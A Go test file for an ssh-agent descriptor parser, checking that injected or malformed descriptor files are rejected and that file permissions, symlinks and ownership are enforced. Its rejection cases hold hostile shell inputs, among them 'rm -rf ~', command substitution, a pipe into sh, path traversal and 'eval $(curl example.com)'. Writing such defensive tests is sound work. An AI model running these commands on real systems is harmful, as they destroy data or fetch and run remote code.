// Copyright 2026 The Bureau Authors
// SPDX-License-Identifier: Apache-2.0

package sshagent

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/bureau-foundation/credboot/lib/clock"
	"github.com/bureau-foundation/credboot/lib/fault"
)

const opensshOutput = `SSH_AUTH_SOCK=/tmp/ssh-XXXXXXq1w2e3/agent.4242; export SSH_AUTH_SOCK;
SSH_AGENT_PID=4243; export SSH_AGENT_PID;
echo Agent pid 4243;
`

func TestParseDescriptor(t *testing.T) {
	descriptor, err := ParseDescriptor([]byte(opensshOutput))
	if err != nil {
		t.Fatalf("ParseDescriptor: %v", err)
	}
	if descriptor.SocketPath != "/tmp/ssh-XXXXXXq1w2e3/agent.4242" || descriptor.PID != 4243 {
		t.Errorf("descriptor = %+v", descriptor)
	}
	if string(descriptor.Encode()) != opensshOutput {
		t.Errorf("Encode = %q, want ssh-agent's own format", descriptor.Encode())
	}
}

func TestParseDescriptor_Rejects(t *testing.T) {
	const socket = "SSH_AUTH_SOCK=/tmp/ssh-a/agent.1; export SSH_AUTH_SOCK;\n"
	const pid = "SSH_AGENT_PID=4243; export SSH_AGENT_PID;\n"
	tests := []struct {
		name    string
		content string
	}{
		{"empty", ""},
		{"missing pid", socket},
		{"missing socket", pid},
		{"extra command", socket + pid + "rm -rf ~;\n"},
		{"command substitution", "SSH_AUTH_SOCK=/tmp/ssh-$(id)/agent.1; export SSH_AUTH_SOCK;\n" + pid},
		{"backtick", socket + pid + "echo `id`;\n"},
		{"pipe", socket + pid + "echo Agent pid 4243 | sh;\n"},
		{"repeated socket", socket + socket + pid},
		{"repeated pid", socket + pid + pid},
		{"echo disagrees", socket + pid + "echo Agent pid 9999;\n"},
		{"relative socket", "SSH_AUTH_SOCK=tmp/agent.1; export SSH_AUTH_SOCK;\n" + pid},
		{"dotted socket", "SSH_AUTH_SOCK=/tmp/ssh-a/../agent.1; export SSH_AUTH_SOCK;\n" + pid},
		{"pid one", socket + "SSH_AGENT_PID=1; export SSH_AGENT_PID;\n"},
		{"missing export", socket + "SSH_AGENT_PID=4243;\n"},
		{"leading space", " " + socket + pid},
		{"oversized", socket + pid + strings.Repeat("\n", MaxDescriptorBytes)},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			_, err := ParseDescriptor([]byte(test.content))
			if !errors.Is(err, ErrMalformedDescriptor) {
				t.Fatalf("error = %v, want ErrMalformedDescriptor", err)
			}
		})
	}
}

func TestWriteAndReadDescriptor(t *testing.T) {
	path := filepath.Join(t.TempDir(), "state", DescriptorName)
	written := Descriptor{SocketPath: "/tmp/ssh-abc/agent.10", PID: 11}
	if err := WriteDescriptor(path, written); err != nil {
		t.Fatalf("WriteDescriptor: %v", err)
	}

	info, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if info.Mode().Perm() != 0600 {
		t.Errorf("descriptor mode = %o, want 0600", info.Mode().Perm())
	}
	dirInfo, err := os.Stat(filepath.Dir(path))
	if err != nil {
		t.Fatal(err)
	}
	if dirInfo.Mode().Perm() != 0700 {
		t.Errorf("descriptor directory mode = %o, want 0700", dirInfo.Mode().Perm())
	}

	read, err := ReadDescriptor(path, os.Getuid())
	if err != nil {
		t.Fatalf("ReadDescriptor: %v", err)
	}
	if read != written {
		t.Errorf("read %+v, wrote %+v", read, written)
	}
}

func TestReadDescriptor_Checks(t *testing.T) {
	dir := t.TempDir()
	content := []byte(opensshOutput)

	t.Run("missing", func(t *testing.T) {
		_, err := ReadDescriptor(filepath.Join(dir, "absent"), os.Getuid())
		if !errors.Is(err, os.ErrNotExist) {
			t.Fatalf("error = %v, want ErrNotExist", err)
		}
	})
	t.Run("group writable", func(t *testing.T) {
		path := filepath.Join(dir, "writable")
		if err := os.WriteFile(path, content, 0600); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(path, 0620); err != nil {
			t.Fatal(err)
		}
		_, err := ReadDescriptor(path, os.Getuid())
		if !fault.Is(err, fault.KindSecurity) {
			t.Fatalf("error = %v, want security", err)
		}
	})
	t.Run("symlink", func(t *testing.T) {
		target := filepath.Join(dir, "target")
		if err := os.WriteFile(target, content, 0600); err != nil {
			t.Fatal(err)
		}
		link := filepath.Join(dir, "link")
		if err := os.Symlink(target, link); err != nil {
			t.Fatal(err)
		}
		_, err := ReadDescriptor(link, os.Getuid())
		if !fault.Is(err, fault.KindSecurity) {
			t.Fatalf("error = %v, want security", err)
		}
	})
	t.Run("foreign owner", func(t *testing.T) {
		path := filepath.Join(dir, "owned")
		if err := os.WriteFile(path, content, 0600); err != nil {
			t.Fatal(err)
		}
		_, err := ReadDescriptor(path, os.Getuid()+1)
		if !fault.Is(err, fault.KindSecurity) {
			t.Fatalf("error = %v, want security", err)
		}
	})
	t.Run("malformed", func(t *testing.T) {
		path := filepath.Join(dir, "malformed")
		if err := os.WriteFile(path, []byte("eval $(curl example.com)\n"), 0600); err != nil {
			t.Fatal(err)
		}
		_, err := ReadDescriptor(path, os.Getuid())
		if !errors.Is(err, ErrMalformedDescriptor) {
			t.Fatalf("error = %v, want ErrMalformedDescriptor", err)
		}
	})
}

func TestLockDescriptor(t *testing.T) {
	path := filepath.Join(t.TempDir(), DescriptorName)
	fake := clock.Fake(time.Unix(1_700_000_000, 0))

	unlock, err := lockDescriptor(context.Background(), path, time.Second, fake)
	if err != nil {
		t.Fatalf("first lock: %v", err)
	}

	// flock is per open file, so a second open in this process
	// contends like another process would.
	_, err = lockDescriptor(context.Background(), path, time.Second, fake)
	if !fault.Is(err, fault.KindResource) {
		t.Fatalf("contended lock error = %v, want resource fault", err)
	}
	var total time.Duration
	for _, wait := range fake.Waits() {
		if wait > lockPollMaximum {
			t.Errorf("poll interval %s exceeds %s", wait, lockPollMaximum)
		}
		total += wait
	}
	if total != time.Second {
		t.Errorf("total wait = %s, want exactly the timeout", total)
	}

	unlock()
	unlockAgain, err := lockDescriptor(context.Background(), path, time.Second, fake)
	if err != nil {
		t.Fatalf("lock after release: %v", err)
	}
	unlockAgain()
}
